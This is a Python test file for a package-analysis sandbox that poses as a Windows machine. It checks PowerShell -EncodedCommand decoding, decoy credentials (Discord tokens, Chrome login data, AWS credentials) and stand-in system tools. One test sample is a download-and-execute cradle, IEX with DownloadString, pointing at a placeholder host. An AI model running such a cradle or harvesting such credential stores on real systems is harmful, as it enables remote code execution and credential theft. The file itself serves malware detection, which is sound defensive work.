"""The Windows persona's host side: decoys and environment, and PowerShell's -EncodedCommand
decoded from traced arguments (never from what the guest says)."""

from __future__ import annotations

import base64
import sqlite3

from pkgtrace.sandbox import bait, layout, persona


def _enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def test_encoded_command_is_decoded_under_every_spelling_powershell_accepts():
    script = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
    for argv in (["powershell", "-EncodedCommand", _enc(script)],
                 ["powershell.exe", "-NoP", "-W", "Hidden", "-enc", _enc(script)],
                 ["PWSH", "-ec", _enc(script)], ["pwsh.exe", "/e", _enc(script)],
                 ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-e", _enc(script)]):
        assert persona.decode_powershell(argv) == script, argv


def test_look_alikes_are_not_decoded():
    assert persona.decode_powershell(["powershell", "-ExecutionPolicy", "Bypass", "-Command", "Get-Date"]) is None
    assert persona.decode_powershell(["python3", "-e", _enc("x")]) is None
    assert persona.decode_powershell(["powershell", "-enc"]) is None   # flag without a value


def test_each_run_gets_fresh_recognisable_decoys(tmp_path):
    a, b = bait.fresh(), bait.fresh()
    env = a.persona_env
    assert env["APPDATA"] == f"{layout.HOME}/AppData/Roaming" and env["OS"] == "Windows_NT"
    assert env["COMPUTERNAME"].startswith("DESKTOP-") and env["USERNAME"]
    token = dict(a.secrets)["discord_token"]
    assert token != dict(b.secrets)["discord_token"] and token.count(".") == 2
    leveldb = f"{layout.HOME}/AppData/Roaming/discord/Local Storage/leveldb/000005.ldb"
    assert token.encode() in a.files[leveldb]
    # Windows-style joins find the same decoy on Linux
    assert a.files[f"{layout.HOME}/AppData/Roaming\\discord\\Local Storage\\leveldb\\000005.ldb"] == a.files[leveldb]
    a.write(tmp_path)
    login = tmp_path / layout.HOME.lstrip("/") / "AppData/Local/Google/Chrome/User Data/Default/Login Data"
    rows = sqlite3.connect(login).execute("SELECT origin_url, password_value FROM logins").fetchall()
    assert rows and rows[0][1].startswith(b"v10")
    assert set(a.public()["files"]) >= {leveldb, f"{layout.HOME}/.aws/credentials"}


def test_stand_in_names_link_to_the_one_script(tmp_path):
    persona.write_tools(tmp_path / "winbin")
    for name in ("powershell", "cmd.exe", "certutil", "schtasks", "reg", "wmic", "curl.exe"):
        link = tmp_path / "winbin" / name
        assert link.is_symlink() and str(link.readlink()) == persona.STANDIN
        assert link.resolve() == (tmp_path / "winbin" / persona.STANDIN).resolve()
    script = tmp_path / "winbin" / persona.STANDIN
    assert script.stat().st_mode & 0o777 == 0o755 and script.read_text().startswith("#!/bin/sh")
    # the folder is the persona's, on the package user's PATH: nothing in it names pkgtrace
    assert not [p for p in (tmp_path / "winbin").iterdir() if "pkgtrace" in p.name.lower()]
    assert persona.GUEST_WINBIN == layout.WINTOOLS and "pkgtrace" not in layout.WINTOOLS
